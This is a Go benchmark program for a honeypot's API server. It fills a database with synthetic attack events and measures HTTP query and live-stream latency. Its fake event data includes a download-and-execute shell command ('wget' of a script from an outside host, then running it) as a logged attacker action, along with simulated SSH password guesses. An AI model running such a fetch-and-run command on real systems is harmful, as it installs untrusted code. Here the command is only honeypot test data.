@@ -1,0 +1,581 @@
+// Command api-bench measures the API server under load. It fills a SQLite database
+// with N synthetic events (default 1,000,000, with their bounty) and 2,000
+// attackers, runs the real API server in-process on loopback, and then:
+//
+//  1. for a few log-search shapes and the attackers list, drives C concurrent
+//     closed-loop HTTP clients (C = 50 and 500) and prints p50/p99 and requests/s,
+//     next to the same queries run directly against the store by C goroutines
+//     (no HTTP, no JSON), with the ratio of the two p50s and p99s;
+//  2. opens 500 SSE clients on /api/stream and stores events at a steady rate
+//     through store.Ingest + bus.Publish (what the ingester does), measuring for
+//     every delivery the delay from just before the store call to the client
+//     reading the event (p50/p99/max).
+//
+// Identical concurrent requests share one computation in the server (see
+// internal/api/coalesce.go); the "(varied)" shapes make every request different.
+//
+// Run it through bench/api.sh. Latencies of a closed loop with C clients on a
+// machine with P cores include queueing: roughly C × service time / P.
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"os"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"time"
+
+	"decnet/internal/api"
+	"decnet/internal/bounty"
+	"decnet/internal/bus"
+	"decnet/internal/event"
+	"decnet/internal/query"
+	"decnet/internal/store"
+)
+
+func main() {
+	n := flag.Int("n", 1_000_000, "events to fill the database with")
+	conc := flag.String("c", "50,500", "concurrent clients, comma-separated")
+	dur := flag.Duration("d", 4*time.Second, "measuring time per cell (at least one request per client is always made)")
+	sse := flag.Int("sse", 500, "SSE clients")
+	sseEvents := flag.Int("sse-events", 400, "events stored during the SSE measurement")
+	sseRate := flag.Int("sse-rate", 100, "events per second during the SSE measurement")
+	work := flag.String("dir", "", "work directory (default: a temporary one, removed after); an existing database there is reused")
+	flag.Parse()
+	if err := run(*n, *conc, *dur, *sse, *sseEvents, *sseRate, *work); err != nil {
+		fmt.Fprintln(os.Stderr, "api-bench:", err)
+		os.Exit(1)
+	}
+}
+
+func run(n int, concList string, dur time.Duration, sseClients, sseEvents, sseRate int, work string) error {
+	var lim syscall.Rlimit
+	if syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim) == nil && lim.Cur < lim.Max {
+		lim.Cur = lim.Max
+		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
+	}
+	if work == "" {
+		d, err := os.MkdirTemp("", "decnet-api-bench-")
+		if err != nil {
+			return err
+		}
+		defer os.RemoveAll(d)
+		work = d
+	}
+	ctx := context.Background()
+	dsn := "sqlite://" + filepath.Join(work, "decnet.db")
+	st, err := store.Open(ctx, dsn)
+	if err != nil {
+		return err
+	}
+	defer st.Close()
+	base := time.Now().UTC().Add(-time.Duration(n) * 100 * time.Millisecond).Truncate(time.Second)
+	have, err := st.CountLogs(ctx, store.LogQuery{})
+	if err != nil {
+		return err
+	}
+	if have < int64(n) {
+		if have > 0 {
+			return fmt.Errorf("%s holds %d events, not %d; remove it or use another -dir", dsn, have, n)
+		}
+		if err := fill(ctx, st, n, base); err != nil {
+			return err
+		}
+	} else {
+		first, err := st.Logs(ctx, store.LogQuery{Ascending: true, Limit: 1})
+		if err != nil || len(first) == 0 {
+			return fmt.Errorf("reading the first event: %v", err)
+		}
+		base = first[0].Time
+		fmt.Printf("reusing %s: %d events\n", dsn, have)
+	}
+
+	live := bus.New()
+	defer live.Close()
+	const pw = "bench-admin-password"
+	srv, err := api.New(api.Config{Store: st, Bus: live, StateDir: work, AdminPassword: pw, PasswordOut: io.Discard, MaxStreams: 100000})
+	if err != nil {
+		return err
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return err
+	}
+	sctx, stop := context.WithCancel(ctx)
+	served := make(chan error, 1)
+	go func() { served <- srv.Serve(sctx, ln, nil) }()
+	defer func() { stop(); <-served }()
+	baseURL := "http://" + ln.Addr().String()
+	cookie, err := login(baseURL, pw)
+	if err != nil {
+		return err
+	}
+
+	ip := "10.9.3.17"
+	lastHour := time.Now().UTC().Add(-time.Hour)
+	shapes := []shape{
+		{name: "newest 100 (no filter)", q: ""},
+		{name: "service:ssh event:auth", q: "service:ssh event:auth"},
+		{name: "attacker:" + ip, q: "attacker:" + ip},
+		{name: "field username:root", q: "username:root"},
+		{name: "text \"wget\"", q: `"wget"`},
+		{name: "last hour (since:)", q: "since:" + lastHour.Format(time.RFC3339)},
+		{name: "decky:decky-03 service:ssh", q: "decky:decky-03 service:ssh"},
+	}
+	for i := range shapes {
+		lq, err := query.Parse(shapes[i].q)
+		if err != nil {
+			return err
+		}
+		lq.Limit = 100
+		s := &shapes[i]
+		s.path = "/api/logs?limit=100&q=" + url.QueryEscape(s.q)
+		s.direct = func(ctx context.Context) error { _, err := st.Logs(ctx, lq); return err }
+	}
+	aq := store.AttackerQuery{Limit: 100}
+	shapes = append(shapes, shape{name: "attackers list (100 + total)", path: "/api/attackers?limit=100",
+		direct: func(ctx context.Context) error {
+			if _, err := st.Attackers(ctx, aq); err != nil {
+				return err
+			}
+			_, err := st.CountAttackers(ctx, aq)
+			return err
+		}})
+	// Shapes whose every request differs (no two clients share a query, so the
+	// server's coalescing of identical concurrent requests cannot help).
+	shapes = append(shapes, shape{name: "attacker:<random of 2000> (varied)", vary: func() (string, func(context.Context) error) {
+		ip := attackerIP(rand.IntN(2000))
+		return "/api/logs?limit=100&q=" + url.QueryEscape("attacker:"+ip), func(ctx context.Context) error {
+			_, err := st.Logs(ctx, store.LogQuery{AttackerIP: ip, Limit: 100})
+			return err
+		}
+	}})
+	shapes = append(shapes, shape{name: "page at random before_id (varied)", vary: func() (string, func(context.Context) error) {
+		id := 1 + rand.Int64N(int64(n))
+		return fmt.Sprintf("/api/logs?limit=100&before_id=%d", id), func(ctx context.Context) error {
+			_, err := st.Logs(ctx, store.LogQuery{BeforeID: id, Limit: 100})
+			return err
+		}
+	}})
+	dq := store.AttackerQuery{Limit: 100, Decky: "decky-03", Sort: store.SortEvents}
+	shapes = append(shapes, shape{name: "attackers decky:decky-03 by events", path: "/api/attackers?limit=100&decky=decky-03&sort=event_count",
+		direct: func(ctx context.Context) error {
+			if _, err := st.Attackers(ctx, dq); err != nil {
+				return err
+			}
+			_, err := st.CountAttackers(ctx, dq)
+			return err
+		}})
+
+	var concs []int
+	for _, f := range strings.Split(concList, ",") {
+		if f == "" {
+			continue
+		}
+		c, err := strconv.Atoi(strings.TrimSpace(f))
+		if err != nil || c < 1 {
+			return fmt.Errorf("bad -c %q", concList)
+		}
+		concs = append(concs, c)
+	}
+	fmt.Printf("\nAPI vs direct store, SQLite, %d events, %d CPU, closed loop, %s per cell\n", n, runtime.NumCPU(), dur)
+	fmt.Printf("%-36s %5s | %9s %9s %8s | %9s %9s %8s | %6s %6s\n", "query", "conc", "api p50", "api p99", "api r/s", "db p50", "db p99", "db r/s", "p50 x", "p99 x")
+	for _, s := range shapes {
+		for _, c := range concs {
+			path, direct := func() string { return s.path }, s.direct
+			if s.vary != nil {
+				path = func() string { p, _ := s.vary(); return p }
+				direct = func(ctx context.Context) error { _, f := s.vary(); return f(ctx) }
+			}
+			a, err := loadHTTP(baseURL, path, cookie, c, dur)
+			if err != nil {
+				return fmt.Errorf("%s: %w", s.name, err)
+			}
+			d, err := loadDirect(direct, c, dur)
+			if err != nil {
+				return fmt.Errorf("%s (direct): %w", s.name, err)
+			}
+			fmt.Printf("%-36s %5d | %9s %9s %8.0f | %9s %9s %8.0f | %6.2f %6.2f\n", s.name, c, ms(a.p50), ms(a.p99), a.rps, ms(d.p50), ms(d.p99), d.rps,
+				float64(a.p50)/float64(max(d.p50, 1)), float64(a.p99)/float64(max(d.p99, 1)))
+		}
+	}
+	if len(concs) > 0 {
+		// Slow cases, one client: a filter on two indexed columns that matches
+		// nothing (SQLite walks one index and reads every row it lists), and the
+		// overview counters (several GROUP BY over every event).
+		fmt.Printf("\nsingle client, 3 requests each\n")
+		fmt.Printf("%-36s %5s | %9s %9s %8s | %9s %9s %8s | %6s %6s\n", "query", "conc", "api p50", "api max", "", "db p50", "db max", "", "p50 x", "")
+		zq := store.LogQuery{Decky: "decky-03", Service: "http", Limit: 100}
+		for _, s := range []shape{
+			{name: "decky:decky-03 service:http (0 hits)", path: "/api/logs?limit=100&q=" + url.QueryEscape("decky:decky-03 service:http"),
+				direct: func(ctx context.Context) error { _, err := st.Logs(ctx, zq); return err }},
+			{name: "stats (api: 1st cold, then cached)", path: "/api/stats",
+				direct: func(ctx context.Context) error { _, err := st.Stats(ctx, store.StatsQuery{}); return err }},
+		} {
+			var al, dl []time.Duration
+			for i := range 3 {
+				if s.name[0] == 's' && i > 0 {
+					time.Sleep(2100 * time.Millisecond) // past the API's 2 s stats cache
+				}
+				a, err := loadHTTPOnce(baseURL+s.path, cookie)
+				if err != nil {
+					return err
+				}
+				t0 := time.Now()
+				if err := s.direct(ctx); err != nil {
+					return err
+				}
+				al, dl = append(al, a), append(dl, time.Since(t0))
+			}
+			a, d := summarize(al, time.Second), summarize(dl, time.Second)
+			fmt.Printf("%-36s %5d | %9s %9s %8s | %9s %9s %8s | %6.2f\n", s.name, 1, ms(a.p50), ms(a.max), "", ms(d.p50), ms(d.max), "", float64(a.p50)/float64(d.p50))
+		}
+	}
+	if sseClients <= 0 {
+		return nil
+	}
+	return fanout(baseURL, cookie, st, live, sseClients, sseEvents, sseRate, n)
+}
+
+func loadHTTPOnce(u, cookie string) (time.Duration, error) {
+	req, _ := http.NewRequest("GET", u, nil)
+	req.Header.Set("Cookie", cookie)
+	t0 := time.Now()
+	res, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return 0, err
+	}
+	_, err = io.Copy(io.Discard, res.Body)
+	res.Body.Close()
+	if res.StatusCode != 200 {
+		return 0, fmt.Errorf("GET %s: %s", u, res.Status)
+	}
+	return time.Since(t0), err
+}
+
+type shape struct {
+	name, q, path string
+	direct        func(context.Context) error
+	// vary, when set, makes a new request for every call: its path and the
+	// same query for the store.
+	vary func() (string, func(context.Context) error)
+}
+
+type result struct {
+	p50, p99, max time.Duration
+	rps           float64
+}
+
+func ms(d time.Duration) string { return fmt.Sprintf("%.2fms", float64(d)/1e6) }
+
+func summarize(lat []time.Duration, elapsed time.Duration) result {
+	slices.Sort(lat)
+	pick := func(p float64) time.Duration { return lat[min(len(lat)-1, int(p*float64(len(lat))))] }
+	return result{p50: pick(0.50), p99: pick(0.99), max: lat[len(lat)-1], rps: float64(len(lat)) / elapsed.Seconds()}
+}
+
+// closedLoop runs c workers calling one until dur has passed (each at least once).
+func closedLoop(c int, dur time.Duration, one func() error) (result, error) {
+	var (
+		mu   sync.Mutex
+		lat  []time.Duration
+		ferr atomic.Value
+		wg   sync.WaitGroup
+	)
+	start := time.Now()
+	deadline := start.Add(dur)
+	for range c {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			var mine []time.Duration
+			for first := true; first || time.Now().Before(deadline); first = false {
+				t0 := time.Now()
+				if err := one(); err != nil {
+					ferr.Store(err)
+					return
+				}
+				mine = append(mine, time.Since(t0))
+			}
+			mu.Lock()
+			lat = append(lat, mine...)
+			mu.Unlock()
+		}()
+	}
+	wg.Wait()
+	if e, ok := ferr.Load().(error); ok {
+		return result{}, e
+	}
+	return summarize(lat, time.Since(start)), nil
+}
+
+func loadHTTP(base string, path func() string, cookie string, c int, dur time.Duration) (result, error) {
+	tr := &http.Transport{MaxIdleConns: c, MaxIdleConnsPerHost: c, IdleConnTimeout: time.Minute}
+	defer tr.CloseIdleConnections()
+	hc := &http.Client{Transport: tr, Timeout: 5 * time.Minute}
+	return closedLoop(c, dur, func() error {
+		u := base + path()
+		req, _ := http.NewRequest("GET", u, nil)
+		req.Header.Set("Cookie", cookie)
+		res, err := hc.Do(req)
+		if err != nil {
+			return err
+		}
+		_, err = io.Copy(io.Discard, res.Body)
+		res.Body.Close()
+		if res.StatusCode != 200 {
+			return fmt.Errorf("GET %s: %s", u, res.Status)
+		}
+		return err
+	})
+}
+
+func loadDirect(f func(context.Context) error, c int, dur time.Duration) (result, error) {
+	ctx := context.Background()
+	return closedLoop(c, dur, func() error { return f(ctx) })
+}
+
+// login logs in as admin, does the forced password change and returns the cookie.
+func login(baseURL, pw string) (string, error) {
+	jar, _ := cookiejar.New(nil)
+	hc := &http.Client{Jar: jar}
+	post := func(path, csrf string, body any) (map[string]any, error) {
+		b, _ := json.Marshal(body)
+		req, _ := http.NewRequest("POST", baseURL+path, bytes.NewReader(b))
+		req.Header.Set("Content-Type", "application/json")
+		if csrf != "" {
+			req.Header.Set(api.CSRFHeader, csrf)
+		}
+		res, err := hc.Do(req)
+		if err != nil {
+			return nil, err
+		}
+		defer res.Body.Close()
+		var out map[string]any
+		json.NewDecoder(res.Body).Decode(&out)
+		if res.StatusCode != 200 {
+			return nil, fmt.Errorf("POST %s: %s %v", path, res.Status, out)
+		}
+		return out, nil
+	}
+	me, err := post("/api/auth/login", "", map[string]string{"username": "admin", "password": pw})
+	if err != nil { // a reused database: the password was changed by an earlier run
+		if me, err = post("/api/auth/login", "", map[string]string{"username": "admin", "password": pw + "-2"}); err != nil {
+			return "", err
+		}
+	}
+	if u, _ := me["user"].(map[string]any); u["must_change_password"] == true {
+		csrf, _ := me["csrf_token"].(string)
+		if _, err := post("/api/auth/password", csrf, map[string]string{"current_password": pw, "new_password": pw + "-2"}); err != nil {
+			return "", err
+		}
+	}
+	u, _ := url.Parse(baseURL)
+	for _, c := range jar.Cookies(u) {
+		if c.Name == api.SessionCookie {
+			return c.Name + "=" + c.Value, nil
+		}
+	}
+	return "", fmt.Errorf("no session cookie after login")
+}
+
+// synth makes event i: 2,000 attackers sending runs of 50 events each —
+// connects, ssh password guesses, http requests, shell commands — over 10 deckies,
+// 100 ms apart (the same shape as bench/ingest).
+func synth(i int, base time.Time) store.Record {
+	e := event.Event{ID: fmt.Sprintf("0190f%011x-7000-8000-%012x", i, i), Time: base.Add(time.Duration(i) * 100 * time.Millisecond),
+		Decky: fmt.Sprintf("decky-%02d", i%10), AttackerIP: attackerIP(i / 50 % 2000), AttackerPort: 1024 + i%60000}
+	switch i % 4 {
+	case 0:
+		e.Service, e.Type = "ssh", "connect"
+		e.Fields = map[string]string{"proto": "tcp"}
+	case 1:
+		e.Service, e.Type = "ssh", "auth"
+		e.Fields = map[string]string{"username": "root", "password": fmt.Sprintf("pass%d", i), "secret_kind": "plaintext",
+			"method": "password", "outcome": "failure", "client_version": "SSH-2.0-libssh2_1.10.0"}
+	case 2:
+		e.Service, e.Type = "http", "request"
+		e.Fields = map[string]string{"method": "GET", "path": fmt.Sprintf("/wp-login.php?id=%d", i), "user_agent": "Mozilla/5.0 (compatible; zgrab/0.x)", "status": "404"}
+	case 3:
+		e.Service, e.Type = "ssh", "command"
+		e.Fields = map[string]string{"command": "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh", "username": "root"}
+	}
+	return store.Record{Event: e}
+}
+
+func attackerIP(a int) string { return fmt.Sprintf("10.9.%d.%d", a/250, a%250+1) }
+
+func fill(ctx context.Context, st store.Store, n int, base time.Time) error {
+	fmt.Printf("filling SQLite with %d events (+ bounty) and 2000 attackers…\n", n)
+	start := time.Now()
+	const batch = 5000
+	for lo := 0; lo < n; lo += batch {
+		recs := make([]store.Record, 0, batch)
+		for i := lo; i < min(n, lo+batch); i++ {
+			recs = append(recs, synth(i, base))
+		}
+		if _, err := st.Ingest(ctx, store.Batch{Records: recs, Bounty: bounty.ExtractAll(recs)}); err != nil {
+			return err
+		}
+	}
+	fmt.Printf("  %d events in %s (%.0f/s)\n", n, time.Since(start).Round(time.Millisecond), float64(n)/time.Since(start).Seconds())
+	var as []store.Attacker
+	var bs []store.Behavior
+	for a := range 2000 {
+		uuid := fmt.Sprintf("00000000-0000-4000-8000-%012d", a)
+		deckies := []string{fmt.Sprintf("decky-%02d", a%10), fmt.Sprintf("decky-%02d", (a+3)%10)}
+		first := base.Add(time.Duration(a*50) * 100 * time.Millisecond)
+		cnt := int64(n / 2000)
+		as = append(as, store.Attacker{UUID: uuid, IP: attackerIP(a), FirstSeen: first, LastSeen: first.Add(time.Duration(cnt) * time.Second),
+			EventCount: cnt, Deckies: deckies, Services: []string{"ssh", "http"}, IsTraversal: true, TraversalPath: strings.Join(deckies, " -> "),
+			CommandCount: cnt / 4, CredentialCount: cnt / 4,
+			Commands: []store.AttackerCommand{{Time: first, Decky: deckies[0], Service: "ssh", Command: "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"}}})
+		bs = append(bs, store.Behavior{AttackerUUID: uuid, BehaviorClass: "brute_forcer", OSGuess: "Linux",
+			ToolGuesses: []store.ToolGuess{{Tool: "hydra", Confidence: 0.8, Evidence: []string{"libssh2 client"}}}})
+		if len(as) == 500 {
+			if err := st.SaveAnalysis(ctx, store.AnalysisBatch{Attackers: as, Behaviors: bs}); err != nil {
+				return err
+			}
+			as, bs = nil, nil
+		}
+	}
+	return nil
+}
+
+// fanout measures SSE delivery to many clients.
+func fanout(baseURL, cookie string, st store.Store, live *bus.Bus, clients, events, rate, n int) error {
+	fmt.Printf("\nSSE fan-out: %d clients, %d events stored at %d/s (store.Ingest + bus.Publish, as the ingester)\n", clients, events, rate)
+	var sent sync.Map // event_id → time.Time just before the store call
+	var (
+		mu     sync.Mutex
+		delays []time.Duration
+		got    atomic.Int64
+	)
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	tr := &http.Transport{MaxConnsPerHost: 0, DisableCompression: true}
+	hc := &http.Client{Transport: tr}
+	var ready, done sync.WaitGroup
+	errs := make(chan error, clients)
+	for range clients {
+		ready.Add(1)
+		done.Add(1)
+		go func() {
+			defer done.Done()
+			req, _ := http.NewRequestWithContext(ctx, "GET", baseURL+"/api/stream?q="+url.QueryEscape("service:bench"), nil)
+			req.Header.Set("Cookie", cookie)
+			res, err := hc.Do(req)
+			if err != nil {
+				errs <- err
+				ready.Done()
+				return
+			}
+			defer res.Body.Close()
+			r := bufio.NewReaderSize(res.Body, 64<<10)
+			greeted := false
+			var mine []time.Duration
+			defer func() {
+				mu.Lock()
+				delays = append(delays, mine...)
+				mu.Unlock()
+			}()
+			for {
+				line, err := r.ReadSlice('\n')
+				if err != nil {
+					if !greeted {
+						ready.Done()
+					}
+					return
+				}
+				if !greeted && bytes.HasPrefix(line, []byte(": connected")) {
+					greeted = true
+					ready.Done()
+					continue
+				}
+				if !bytes.HasPrefix(line, []byte("data: ")) {
+					continue
+				}
+				now := time.Now()
+				i := bytes.Index(line, []byte(`"event_id":"`))
+				if i < 0 {
+					continue
+				}
+				rest := line[i+12:]
+				j := bytes.IndexByte(rest, '"')
+				if t0, ok := sent.Load(string(rest[:j])); ok {
+					mine = append(mine, now.Sub(t0.(time.Time)))
+					got.Add(1)
+				}
+			}
+		}()
+	}
+	ready.Wait()
+	select {
+	case err := <-errs:
+		return fmt.Errorf("opening streams: %w", err)
+	default:
+	}
+	fmt.Printf("  %d streams open\n", clients)
+	const perBatch = 5
+	tick := time.NewTicker(time.Second * perBatch / time.Duration(rate))
+	defer tick.Stop()
+	start := time.Now()
+	for k := 0; k < events; k += perBatch {
+		<-tick.C
+		recs := make([]store.Record, 0, perBatch)
+		for i := k; i < min(events, k+perBatch); i++ {
+			r := synth(n+i, time.Now().Add(-time.Duration(n+i)*100*time.Millisecond))
+			r.Event.ID = fmt.Sprintf("bench-sse-%d-%d", start.UnixNano(), i)
+			r.Service = "bench"
+			recs = append(recs, r)
+		}
+		t0 := time.Now()
+		for _, r := range recs {
+			sent.Store(r.Event.ID, t0)
+		}
+		res, err := st.Ingest(context.Background(), store.Batch{Records: recs})
+		if err != nil {
+			return err
+		}
+		rows := make([]store.LogRow, 0, len(recs))
+		for i, id := range res.IDs {
+			if id > 0 {
+				rows = append(rows, store.LogRow{ID: id, Record: recs[i]})
+			}
+		}
+		live.Publish(rows)
+	}
+	want := int64(events * clients)
+	wait := time.Now().Add(30 * time.Second)
+	for got.Load() < want && time.Now().Before(wait) {
+		time.Sleep(50 * time.Millisecond)
+	}
+	cancel()
+	done.Wait()
+	lagged := live.Stats().Lagged
+	if len(delays) == 0 {
+		return fmt.Errorf("no event was delivered")
+	}
+	r := summarize(delays, time.Since(start))
+	fmt.Printf("%-36s | %9s %9s %9s | %s\n", "ingest → SSE delivery", "p50", "p99", "max", "delivered")
+	fmt.Printf("%-36s | %9s %9s %9s | %d of %d (lagged subscribers: %d)\n", fmt.Sprintf("%d clients × %d events", clients, events),
+		ms(r.p50), ms(r.p99), ms(r.max), len(delays), want, lagged)
+	return nil
+}
